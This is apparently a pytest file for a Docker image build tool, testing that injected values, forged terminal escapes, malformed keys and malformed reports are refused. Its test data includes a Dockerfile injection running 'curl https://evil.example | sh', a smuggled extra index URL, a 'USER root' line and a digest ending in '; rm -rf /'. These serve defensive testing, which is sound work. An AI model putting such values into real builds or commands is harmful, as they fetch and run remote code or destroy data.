"""The input boundary's parts (issue 11): the Dockerfile instruction check, references, render's all-or-nothing
write, exit-code severity, signals. The corpus of bad inputs is in test_hostile_inputs.py."""

from __future__ import annotations

import dataclasses
import json
import os
import signal
import subprocess
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from matrixtool.build import executor as build
from matrixtool.build import render
from matrixtool.cli import main
from matrixtool.core import interrupts
from matrixtool.core.errors import ConfigError, ExitCode, Terminated, most_severe
from matrixtool.model import reference
from matrixtool.model.matrixfile import load_matrix
from matrixtool.model.model import IndexSettings
from tests.conftest import copy_checkout


@pytest.mark.parametrize(
    "change",
    [
        {"description": "x\nRUN curl https://evil.example | sh"},
        {"description": 'x" \\\nUSER root'},
        {"base_image": "debian:bookworm-slim\nRUN id"},
        {"python": "3.11 --mount=type=bind,target=/x"},
    ],
)
def test_a_value_that_adds_to_the_dockerfile_is_refused_even_past_validation(
    change: dict[str, str],
) -> None:
    """Whatever the schema and the value checks let through, the rendered Dockerfile's instructions must be
    those the template gives a sentinel variant of the same shape."""
    variant = dataclasses.replace(load_matrix().variants[0], **change)  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match=r"changes the rendered Dockerfile's instructions|breaks the quoting"):
        render.render_variant(variant)


def test_an_index_url_with_an_extra_flag_adds_a_word_and_is_refused() -> None:
    cpu = load_matrix().variants[0]
    bad = dataclasses.replace(
        cpu, index=IndexSettings(url="https://x.example/simple --extra-index-url https://evil.example", wheelhouse=True)
    )
    bad = dataclasses.replace(bad, index=dataclasses.replace(bad.index, exclude=cpu.index.exclude))
    with pytest.raises(ConfigError, match="instruction"):
        render.render_variant(bad)


def test_every_variant_renders_the_shape_of_its_sentinel() -> None:
    for variant in load_matrix().variants:
        dockerfile = next(f.text for f in render.render_variant(variant) if f.path.name == "Dockerfile")
        shape = render.instruction_shape(dockerfile)
        assert shape == render.instruction_shape(render._render_dockerfile(render.sentinel_variant(variant)))
        assert ("RUN", 0) not in shape and sum(1 for i, _ in shape if i == "FROM") == 3


@pytest.mark.parametrize(
    "value", ["127.0.0.1:5000", "localhost:5000/ns", "registry.example.com/team/sub", "ghcr.io/org", "[::1]:5000"]
)
def test_good_registries(value: str) -> None:
    assert reference.registry_problem(value) is None


@pytest.mark.parametrize("value", ["vllm-matrix", "vllm-matrix-test", "ghcr.io/org/vllm", "localhost:5000/a_b/c.d"])
def test_good_repositories(value: str) -> None:
    assert reference.repository_problem(value) is None


@pytest.mark.parametrize(
    "value",
    [
        "debian:bookworm-slim",
        "vllm-matrix/cpu:749c51bf6172020e",
        "127.0.0.1:5000/x/cpu:0.32.0",
        "nvcr.io/nvidia/cuda:12.4.1-devel-ubuntu22.04",
        "ubuntu@sha256:" + "a" * 64,
    ],
)
def test_good_images(value: str) -> None:
    assert reference.image_problem(value) is None


def test_untagged_drops_every_tag_option() -> None:
    argv = ["docker", "buildx", "build", "--tag", "a:1", "-t", "b:2", "--tag=c:3", "--label", "x=y", "ctx"]
    assert build.untagged(argv) == ["docker", "buildx", "build", "--label", "x=y", "ctx"]


def test_severity_order() -> None:
    assert most_severe([ExitCode.SMOKE, ExitCode.BUILD, ExitCode.INDEX_UNREACHABLE]) == ExitCode.INDEX_UNREACHABLE
    assert most_severe([ExitCode.SMOKE, ExitCode.CONFIG]) == ExitCode.CONFIG
    assert most_severe([ExitCode.SMOKE, ExitCode.BUILD]) == ExitCode.BUILD
    assert most_severe([]) is None


def test_signals_map_to_exit_codes_and_handlers_come_back() -> None:
    assert interrupts.exit_code_of(Terminated()) == ExitCode.TERMINATED
    assert interrupts.exit_code_of(KeyboardInterrupt()) == ExitCode.INTERRUPTED
    before = signal.getsignal(signal.SIGTERM)
    called: list[bool] = []
    with pytest.raises(Terminated), interrupts.handled(lambda: called.append(True)):
        os.kill(os.getpid(), signal.SIGTERM)
    assert called == [True]
    assert signal.getsignal(signal.SIGTERM) == before


def _project(tmp_path: Path) -> Path:
    return copy_checkout(tmp_path)


def test_render_removes_a_removed_variants_generated_folder(tmp_path: Path) -> None:
    matrix = _project(tmp_path)
    data = yaml.safe_load(matrix.read_text())
    del data["variants"]["rocm"]
    matrix.write_text(yaml.safe_dump(data, sort_keys=False))
    runner = CliRunner()
    stale = runner.invoke(main, ["--matrix", str(matrix), "render", "--check"], catch_exceptions=False)
    assert stale.exit_code == ExitCode.STALE_RENDER and "extra: images/rocm/Dockerfile" in stale.output
    done = runner.invoke(main, ["--matrix", str(matrix), "render"], catch_exceptions=False)
    assert done.exit_code == 0 and "removed images/rocm/Dockerfile" in done.output
    assert not (tmp_path / "images" / "rocm").exists()
    fresh = runner.invoke(main, ["--matrix", str(matrix), "render", "--check"], catch_exceptions=False)
    assert fresh.exit_code == 0, fresh.output


def test_render_replaces_files_atomically(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A write that fails part-way leaves the file it was writing whole (old content) and no temp file."""
    matrix = _project(tmp_path)
    data = yaml.safe_load(matrix.read_text())
    data["variants"]["cpu"]["vllm"]["version"] = "0.32.1"
    matrix.write_text(yaml.safe_dump(data, sort_keys=False))
    dockerfile = tmp_path / "images" / "cpu" / "Dockerfile"
    old = dockerfile.read_text()

    def fail(*args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    result = CliRunner().invoke(main, ["--matrix", str(matrix), "render"], catch_exceptions=False)
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert dockerfile.read_text() == old
    assert not [p for p in (tmp_path / "images" / "cpu").iterdir() if p.name.endswith(".tmp")]


def test_doctor_fails_through_the_error_path(monkeypatch: pytest.MonkeyPatch) -> None:
    # The docker CLI probes (buildx) fail as on a machine without the plugin; the SDK is the guard's.
    from matrixtool.core import engine

    def no_cli(argv: list[str], timeout: float = 30) -> subprocess.CompletedProcess[str]:
        return subprocess.CompletedProcess(argv, 1, "", f"{argv[0]}: not run in unit tests")

    monkeypatch.setattr(engine, "_run", no_cli)
    result = CliRunner().invoke(main, ["doctor", "--registry", "127.0.0.1:9"], catch_exceptions=False)
    assert result.exit_code == ExitCode.ENGINE
    assert "error: doctor: engine" in result.output and "Traceback" not in result.output


def test_unused_wheelhouse_is_a_warning(tmp_path: Path) -> None:
    # --json-file naming the JUnit report's file stops the command after the warning (no index probe, no engine).
    args = ["--out", str(tmp_path / "out"), "build", "cuda", "--wheelhouse", str(tmp_path)]
    same = str(tmp_path / "r.xml")
    result = CliRunner().invoke(main, [*args, "--json-file", same, "--junit", same])
    assert f"warning: --wheelhouse {tmp_path} is ignored" in result.output
    assert result.exit_code == ExitCode.CONFIG


@pytest.mark.parametrize("flag", ["--out", "--junit", "--json-file"])
@pytest.mark.parametrize("kind", ["loop", "dangling"])
def test_an_output_path_through_a_broken_link_is_a_flag_error(tmp_path: Path, flag: str, kind: str) -> None:
    """A symlink loop passed the output checks and failed later: --out in bake with an unexpected
    RuntimeError from Path.resolve (exit 1), --junit only after the checks ran."""
    matrix_path = copy_checkout(tmp_path / "checkout")
    link = tmp_path / "link"
    link.symlink_to(link if kind == "loop" else tmp_path / "missing" / "x")
    path = str(link) if flag == "--out" else str(link / "report.xml")
    args = ["--matrix", str(matrix_path)]
    if flag == "--out":
        args += ["--out", path, "bake", "cpu"]
    else:
        args += ["run", "cpu", flag, path]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == ExitCode.CONFIG, result.output
    assert f"{flag}: {link} is a symbolic link that leads nowhere" in result.output
    assert not (tmp_path / "missing").exists()


def test_an_unreadable_matrix_file_is_a_config_error(tmp_path: Path) -> None:
    """click's own readability check gave exit 2 ("Error: ... is not readable"); the matrix file's problems
    are exit 3, like a missing or non-regular file. Root reads any file, so the read itself is made to fail."""
    matrix_path = copy_checkout(tmp_path)
    matrix_path.chmod(0)
    if os.access(matrix_path, os.R_OK):
        pytest.skip("running as root: a mode-0 file is still readable")
    result = CliRunner().invoke(main, ["--matrix", str(matrix_path), "ci-matrix"])
    assert result.exit_code == ExitCode.CONFIG, result.output
    assert "Permission denied" in result.output


@pytest.mark.parametrize(
    ("codes", "check_failed", "expected"),
    [
        ({"a": ExitCode.BUILD, "b": ExitCode.CONFIG}, False, ExitCode.CONFIG),
        ({"a": ExitCode.INDEX_UNREACHABLE}, True, ExitCode.INDEX_UNREACHABLE),
        ({"a": ExitCode.BUILD}, True, ExitCode.BUILD),
        ({}, False, ExitCode.BUILD),  # an error recorded without a code counts as a failed build
    ],
)
def test_keep_going_exits_with_the_most_severe_code(
    tmp_path: Path, codes: dict[str, ExitCode], check_failed: bool, expected: ExitCode
) -> None:
    """commands._shared.finish turns RunReport.error_codes (recorded by commands.run.run) and a failed check
    into one exit code, the most severe (docs/commands.md, "Exit codes"), after writing the reports."""
    from matrixtool import report
    from matrixtool.commands._shared import ReportFlags, finish
    from matrixtool.core.errors import VariantsFailed
    from matrixtool.smoke.result import CheckResult, Status

    errors = {name: f"{name} failed" for name in codes} or {"a": "a failed"}
    check = CheckResult(
        variant="c",
        image="i",
        check="pip-check",
        status=Status.FAILED if check_failed else Status.PASSED,
        diagnosis="",
        hint="",
        seconds=1.0,
    )
    result = report.RunReport(checks=[check], errors=errors, error_codes=codes)
    with pytest.raises(VariantsFailed) as info:
        finish(result, ReportFlags(as_json=False, junit=None), out_dir=tmp_path / "out", env={})
    assert info.value.exit_code == expected
    assert (tmp_path / "out" / "reports" / "junit.xml").is_file()


# --- text the tool did not write is shown with its control characters escaped --------------------------------
def test_shown_escapes_every_control_character_and_keeps_lines_only_when_asked() -> None:
    from matrixtool.core.untrusted import shown

    assert (
        shown("pid 1: a\x1b[2J\rb\x07\x9b\u202e\u2028c\x00") == "pid 1: a\\x1b[2J\\x0db\\x07\\x9b\\u202e\\u2028c\\x00"
    )
    assert shown("a\nerror: forged") == "a\\x0aerror: forged"  # no line of its own
    assert shown("a\n\tb\x1b", lines=True) == "a\n\tb\\x1b"
    assert shown("naïve ✓ 日本") == "naïve ✓ 日本"


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_a_lock_file_that_is_no_regular_file_is_refused_naming_it(tmp_path: Path, kind: str) -> None:
    """Before: a FIFO or device planted as ``<out>/.lock`` gave ``Invalid argument (EINVAL)`` from ftruncate."""
    import stat

    out = tmp_path / "out"
    out.mkdir()
    lock = out / ".lock"
    if kind == "fifo":
        os.mkfifo(lock)
    else:
        try:
            os.mknod(lock, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        except PermissionError:
            pytest.skip("mknod needs root")
    result = CliRunner().invoke(main, ["--out", str(out), "--no-wait", "kube", "cpu"], catch_exceptions=False)
    assert result.exit_code == ExitCode.CONFIG, result.output
    assert f"cannot use {lock} as the lock of --out: it is no regular file" in result.output
    assert not (out / "kube").exists()


def test_a_lock_file_of_another_shape_is_named_escaped_exit_19(tmp_path: Path) -> None:
    import fcntl

    out = tmp_path / "out"
    out.mkdir()
    lock = out / ".lock"
    lock.write_bytes(b"pid 1: x\n\x1b[2J\x1b]0;owned\x07error: forged\r")
    fd = os.open(lock, os.O_RDWR)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)  # another open file description: held as another run holds it
        result = CliRunner().invoke(main, ["--out", str(out), "--no-wait", "kube", "cpu"], catch_exceptions=False)
        assert result.exit_code == ExitCode.OUT_LOCKED
        assert "\x1b" not in result.output and "\r" not in result.output and "\nerror: forged" not in result.output
        assert (
            "holds no 'pid N: command' line but \"pid 1: x\\x0a\\x1b[2J\\x1b]0;owned\\x07error: forged" in result.output
        )
        os.ftruncate(fd, 0)
        os.pwrite(fd, b"pid 12: tools/matrix test --as \x1b[31mcpu\n", 0)
        result = CliRunner().invoke(main, ["--out", str(out), "--no-wait", "kube", "cpu"], catch_exceptions=False)
        assert result.exit_code == 19 and "in use by pid 12: tools/matrix test --as \\x1b[31mcpu;" in result.output
    finally:
        os.close(fd)


def test_an_error_message_never_carries_a_terminal_escape(tmp_path: Path) -> None:
    """The last guard: whatever a message quotes, ``error:`` output has no control character but its newlines."""
    bad = tmp_path / "run\x1b[2J.json"
    bad.write_text('{"checks": [{"variant": "cpu\\u001b]0;x\\u0007", "profile": 1, "check": "serve"}]}')
    result = CliRunner().invoke(main, ["--out", str(tmp_path / "o"), "kube", "cpu", "--from-report", str(bad)])
    assert result.exit_code == ExitCode.CONFIG, result.output
    assert "run\\x1b[2J.json" in result.output and "checks[0].profile: 1 is not of type 'string'" in result.output
    assert not any(c in result.output for c in "\x1b\x07\r")


def test_the_run_table_escapes_what_an_image_printed() -> None:
    from matrixtool import report
    from matrixtool.smoke.result import CheckResult, Status

    check = CheckResult(
        variant="cpu", image="r/cpu:1", check="serve", status=Status.FAILED,
        diagnosis="server said: \x1b[2Jready\rerror: forged", hint="h", seconds=1.0,
    )  # fmt: skip
    table = report.table(report.RunReport(checks=[check]))
    assert "\x1b" not in table and "\r" not in table and "\\x1b[2Jready\\x0derror: forged" in table


# --- a value bounded by the field it goes to ------------------------------------------------------------------
def test_a_cold_start_past_a_day_never_becomes_a_probe_threshold() -> None:
    """kube's own guard, behind matrix.yaml's maximum and the report's: a Kubernetes int32 holds the threshold."""
    from matrixtool.deploy import kube, kube_times

    ok = kube.probes(kube.Serving(args=(), port=8000, model_mount="/m", cold_start_s=kube_times.MAX_READY_S))
    assert ok["startupProbe"]["failureThreshold"] <= kube.INT32_MAX
    for cold in (1e30, float("inf"), float("nan"), kube_times.MAX_READY_S + 1, 0, -5):
        with pytest.raises(ConfigError, match="fits Kubernetes' 32-bit field"):
            kube.probes(kube.Serving(args=(), port=8000, model_mount="/m", cold_start_s=cold))


@pytest.mark.parametrize(
    ("options", "ok"),
    [
        ("size=4g", True),
        ("size=8589934591g", True),
        ("size=8589934592g", False),
        ("size=99999999999999999999g", False),
        ("size=9223372036854775807", True),
        ("size=9223372036854775808", False),
        ("nr_inodes=99999999999999999999", False),
        ("size=50%", True),
    ],
)
def test_a_tmpfs_size_fits_the_kernels_64_bit_count(options: str, ok: bool) -> None:
    from matrixtool.model.condition_values import parse_tmpfs_options

    if ok:
        assert parse_tmpfs_options(options) == options
    else:
        with pytest.raises(ValueError, match="with a valid value"):
            parse_tmpfs_options(options)


# --- render's own atomic write: a failed write is exit 3 "cannot write FILE" --------------------------------
@pytest.mark.subprocess
def test_render_under_a_file_size_limit_is_cannot_write_exit_3(tmp_path: Path) -> None:
    import resource
    import sys

    matrix = copy_checkout(tmp_path)
    dockerfile = tmp_path / "images" / "cpu" / "Dockerfile"
    dockerfile.write_text("stale\n")

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (1024, 1024))

    env = {**os.environ, "PYTHONPATH": str(Path(render.__file__).parents[2])}
    done = subprocess.run(
        [sys.executable, "-m", "matrixtool", "--matrix", str(matrix), "render"],
        capture_output=True, text=True, env=env, preexec_fn=limit, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == ExitCode.CONFIG, done.stderr
    assert f"error: cannot write {dockerfile}: File too large (EFBIG)" in done.stderr
    assert "unexpected" not in done.stderr and dockerfile.read_text() == "stale\n"
    assert not list(dockerfile.parent.glob(".Dockerfile.*")), "a temporary file was left"


# --- keys: the PEM body parses as a key ----------------------------------------------------------------------
KEYS = Path(__file__).parent / "data" / "keys"


@pytest.mark.subprocess  # openssl pkey reads the public key
@pytest.mark.parametrize(
    "body",
    [
        "aGVsbG8gd29ybGQ=",  # base64 of text
        "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEfpt0D8ZB0NhEYJYd5lgr2dU3yLJc",  # a real key's first 48 bytes
        "MAA=",  # an empty DER SEQUENCE
    ],
)
def test_pem_armour_around_garbage_is_a_bad_key_exit_3_before_the_engine(tmp_path: Path, body: str) -> None:
    pub = tmp_path / "k.pub"
    pub.write_text(f"-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----\n")
    args = ["--out", str(tmp_path / "o"), "test", "--image", "r/cpu:1", "--as", "cpu", "--verify-key", str(pub)]
    result = CliRunner().invoke(main, args, catch_exceptions=False)
    assert result.exit_code == ExitCode.CONFIG, result.output
    assert "--verify-key" in result.output and "its PEM body is no public key" in result.output


@pytest.mark.subprocess
def test_a_real_cosign_key_pair_passes_the_key_check() -> None:
    from matrixtool.supply import signing

    signing.check_key(KEYS / "cosign.pub", flag="--verify-key", private=False, env={})
    signing.check_key(KEYS / "cosign.key", flag="--sign-key", private=True, env={"COSIGN_PASSWORD": ""})


@pytest.mark.parametrize(
    ("body", "says"),
    [
        ("x", "is not base64"),
        ("bm90IGpzb24=", "is not cosign's encrypted key (JSON with kdf, cipher and ciphertext)"),
        ("eyJrZGYiOjEsImNpcGhlciI6eyJuYW1lIjoibiIsIm5vbmNlIjoieCJ9LCJjaXBoZXJ0ZXh0IjoieCJ9", "kdf: 1 is not of type"),
    ],
)
def test_a_private_key_whose_body_is_not_cosigns_is_refused(tmp_path: Path, body: str, says: str) -> None:
    from matrixtool.supply import signing

    key = tmp_path / "k.key"
    key.write_text(
        f"-----BEGIN ENCRYPTED SIGSTORE PRIVATE KEY-----\n{body}\n-----END ENCRYPTED SIGSTORE PRIVATE KEY-----\n"
    )
    with pytest.raises(ConfigError, match="--sign-key") as caught:
        signing.check_key(key, flag="--sign-key", private=True, env={"COSIGN_PASSWORD": ""})
    assert says in str(caught.value) and caught.value.exit_code == ExitCode.CONFIG


# --- a dist_alias over a distribution the image installs: refused at load, and in the build -----------------
@pytest.mark.subprocess  # the rendered guard runs under a real shell and Python
def test_the_rendered_alias_step_refuses_a_distribution_the_python_has(tmp_path: Path) -> None:
    import sys

    text = (Path(render.__file__).parents[3] / "images" / "cpu" / "Dockerfile").read_text()
    guard = next(line for line in text.splitlines() if "importlib.metadata as m" in line)
    assert 'm.version("vllm")' in guard
    check = guard.strip().removeprefix("&& ").removesuffix(" \\").replace("python ", f"{sys.executable} ")
    for name, code in (("pip", 1), ("no-such-distribution-x", 0)):
        done = subprocess.run(["sh", "-c", check.replace("vllm", name)], capture_output=True, text=True)
        assert done.returncode == code, done.stderr
        assert ("the image installs pip itself" in done.stderr) == (code == 1)


def test_advisory_and_sbom_text_reach_the_terminal_escaped(tmp_path: Path) -> None:
    from matrixtool.supply import compare as sbom_compare

    (tmp_path / "adv" / "PyPI").mkdir(parents=True)
    (tmp_path / "adv" / "PyPI" / "a.json").write_text(
        '{"id": "GHSA-1\\u001b[31m", "summary": "x\\u001b[2J", "aliases": ["CVE-1\\r"],'
        ' "affected": [{"package": {"ecosystem": "PyPI", "name": "torch"}, "versions": ["2.0.0\\u001b"]}]}'
    )
    bom = '{"bomFormat": "CycloneDX", "components": [{"purl": "pkg:pypi/torch@2.0.0%1B"}]}'
    (tmp_path / "sbom.json").write_text(bom)
    args = ["audit", str(tmp_path / "sbom.json"), "--advisories", str(tmp_path / "adv"), "--as", "cpu"]
    result = CliRunner().invoke(main, args, catch_exceptions=False)
    assert result.exit_code == ExitCode.NOT_AUDITED, result.output  # the version cannot be compared: fail closed
    assert "with GHSA-1\\x1b[31m's ranges" in result.output and not any(c in result.output for c in "\x1b\r")
    published = {"bomFormat": "CycloneDX", "components": [{"purl": "pkg:pypi/torch@2.0.0%1B%5B2J"}]}
    lines = sbom_compare.comparison_lines(sbom_compare.compare(published, {"bomFormat": "CycloneDX", "components": []}))
    assert lines[0] == "- pypi/torch 2.0.0\\x1b[2J"


# --- push --smoke-report and the build's provenance statement: read as regular files of a declared shape ----
@pytest.mark.parametrize(
    ("report", "says"),
    [
        (None, "--smoke-report: {} is a FIFO, not a regular file"),
        ("{", "is not JSON"),
        ('{"checks": "x"}', "checks: 'x' is not of type 'array'"),
        ('{"ok": true}', "'checks' is a required property"),
    ],
)
def test_a_smoke_report_of_another_shape_is_refused_before_the_engine(
    tmp_path: Path, report: str | None, says: str
) -> None:
    path = tmp_path / "smoke.json"
    if report is None:
        os.mkfifo(path)
    else:
        path.write_text(report)
    args = ["--out", str(tmp_path / "o"), "push", "cpu", "--registry", "127.0.0.1:5000"]
    args += ["--sign-key", str(KEYS / "cosign.key"), "--smoke-report", str(path)]
    result = CliRunner(env={"COSIGN_PASSWORD": ""}).invoke(main, args, catch_exceptions=False)
    assert result.exit_code == ExitCode.CONFIG, result.output
    assert says.format(path) in result.output, result.output
    if report is not None:  # a FIFO is refused by the rule of every input file (inputs.input_file_problem)
        assert "a 'tools/matrix run/test --json-file' report (--smoke-report)" in result.output


@pytest.mark.parametrize(
    ("statement", "says"),
    [
        ("{", "is not JSON"),
        ('{"_type": "x"}', "'predicate' is a required property"),
        ('{"predicate": []}', "predicate: [] is not of type 'object'"),
    ],
)
def test_a_provenance_statement_of_another_shape_is_a_config_error(tmp_path: Path, statement: str, says: str) -> None:
    from matrixtool.supply import attestations

    path = tmp_path / "provenance-cpu.intoto.json"
    path.write_text(statement)
    with pytest.raises(ConfigError, match="build again to write it") as caught:
        attestations._predicate_of(path)
    assert says in str(caught.value)
    assert attestations._predicate_of(_write(tmp_path / "ok.json", '{"predicate": {"a": 1}}')) == {"a": 1}


def _write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def test_a_junit_report_quoting_control_characters_is_still_xml(tmp_path: Path) -> None:
    import xml.etree.ElementTree as ET

    from matrixtool import report
    from matrixtool.smoke.result import CheckResult, Status

    said = "server: \x1b[31mready\x00\x08"
    checks = [
        CheckResult(variant="cpu", image="r/cpu:1", check=name, status=status, diagnosis=said, hint=said, seconds=1.0)
        for name, status in (("serve", Status.FAILED), ("vllm-import", Status.TIMEOUT), ("pip-check", Status.SKIPPED))
    ]
    path = tmp_path / "junit.xml"
    report.write_junit(report.RunReport(checks=checks, errors={"cuda": said}), path)
    root = ET.parse(path).getroot()
    messages = [e.get("message") for e in root.iter() if e.get("message")]
    assert messages and all(m == "server: \\x1b[31mready\\x00\\x08" for m in messages), messages


@pytest.mark.parametrize(
    ("inventory", "says"),
    [
        ('{"python": [1], "debian": []}', "python[0]: 1 is not of type 'object'"),
        ('{"python": [{"name": "x", "files": "many"}], "debian": []}', "python[0].files: 'many' is not of type"),
        ('{"python": [], "debian": [{"name": "x", "installed_size_kib": -1}]}', "installed_size_kib: -1 is less than"),
        ('{"python": [], "debian": [{"name": "x", "licenses": "MIT"}]}', "debian[0].licenses: 'MIT' is not of type"),
        ('{"python": [], "debian": [], "os": {"ID": 12}}', "os.ID: 12 is not of type 'string'"),
    ],
)
def test_an_inventory_of_another_shape_is_an_sbom_error(inventory: str, says: str) -> None:
    """The image's own python3 prints the inventory: its shape is checked before any field is used (exit 16)."""
    from matrixtool.supply import inventory as image_inventory
    from matrixtool.supply import sbom

    with pytest.raises(sbom.SbomError, match="of another shape") as caught:
        image_inventory.parse_output(f"{image_inventory.MARKER}{inventory}\n")
    assert says in str(caught.value) and caught.value.exit_code == ExitCode.SBOM


@pytest.mark.parametrize("printed", ["[1]", "{not json", '"text"', "5"])
def test_a_probe_result_that_is_no_object_is_a_probe_error_not_a_crash(printed: str) -> None:
    """The serve probe runs under the image's own python3: its result line is checked before use."""
    from matrixtool.incontainer.vllm_smoke.programs import serve_probe
    from matrixtool.smoke.serve import probing as serve_probing

    class Box:
        def exec(self, argv: list[str], env: dict[str, str], deadline_s: float) -> tuple[int, str]:
            return 0, f"noise\n{serve_probe.PROBE_MARK}{printed}\n"

    answer = serve_probing.ClientProber(Box()).call("health", {})  # type: ignore[arg-type]
    assert answer["status"] is None and "printed no JSON object" in answer["error"]


def test_cosign_payloads_of_another_shape_name_no_signed_image() -> None:
    """cosign verify prints the signed payloads: one that is no simple-signing payload with a sha256 digest
    names no image (never an AttributeError, never a digest that is no digest)."""
    from matrixtool.supply import signing

    good = {"critical": {"image": {"docker-manifest-digest": "sha256:" + "a" * 64}}}
    lines = [
        "not json",
        "[1, null]",
        '{"critical": "x"}',
        '{"critical": {"image": []}}',
        '{"critical": {"image": {"docker-manifest-digest": "sha256:x; rm -rf /"}}}',
        json.dumps([good]),
    ]
    assert signing._signed_digests("\n".join(lines)) == ["sha256:" + "a" * 64]


def test_the_progress_line_escapes_what_an_image_printed(capsys: pytest.CaptureFixture[str]) -> None:
    from matrixtool.commands import _steps
    from matrixtool.smoke.result import CheckResult, Status

    check = CheckResult(
        variant="cpu", image="r/cpu:1", check="serve", status=Status.FAILED,
        diagnosis="log: \x1b]0;owned\x07\rerror: forged", hint="", seconds=1.0,
    )  # fmt: skip
    _steps.progress(False)(check)
    err = capsys.readouterr().err
    assert "[cpu] serve: failed (1.0 s) log: \\x1b]0;owned\\x07\\x0derror: forged" in err and "\x1b" not in err


@pytest.mark.parametrize("size", ["9" * 5000, "²", "١٢", "-5", "1e3", "9" * 19])
def test_a_published_sbom_size_that_is_no_count_is_no_size(size: str) -> None:
    """``str.isdigit`` takes ``²`` and 5000 digits, which ``int`` refuses: a size property is ASCII digits of
    an int64, else unknown (0), never a crash of ``sbom --compare``."""
    from matrixtool.supply import compare as sbom_compare
    from matrixtool.supply import sbom

    prop = {"name": sbom.PROPERTY_PREFIX + "size-bytes", "value": size}
    doc = {"bomFormat": "CycloneDX", "components": [{"purl": "pkg:pypi/x@1", "properties": [prop]}]}
    assert sbom_compare.packages_of(doc)["pypi/x"].size == 0
    prop["value"] = "123"
    assert sbom_compare.packages_of(doc)["pypi/x"].size == 123


def test_the_json_report_and_the_junit_report_in_one_file_are_refused(tmp_path: Path) -> None:
    """Spelled the same, spelled relative and absolute, or through a link to the folder: one report would be lost."""
    from matrixtool.model.inputs import check_outputs

    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "via").symlink_to(real)
    for junit, json_file in (
        (real / "r", real / "r"),
        (tmp_path / "via" / "r", real / "r"),
        (None, tmp_path / "out" / "reports" / "junit.xml"),
    ):
        with pytest.raises(ConfigError, match="is the JUnit report's file too"):
            check_outputs(tmp_path / "out", junit=junit, json_file=json_file)
    check_outputs(tmp_path / "out", junit=real / "j.xml", json_file=real / "r.json")
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    check_outputs(tmp_path / "out", json_file=fifo)  # a stream, written in place (docs/commands.md)
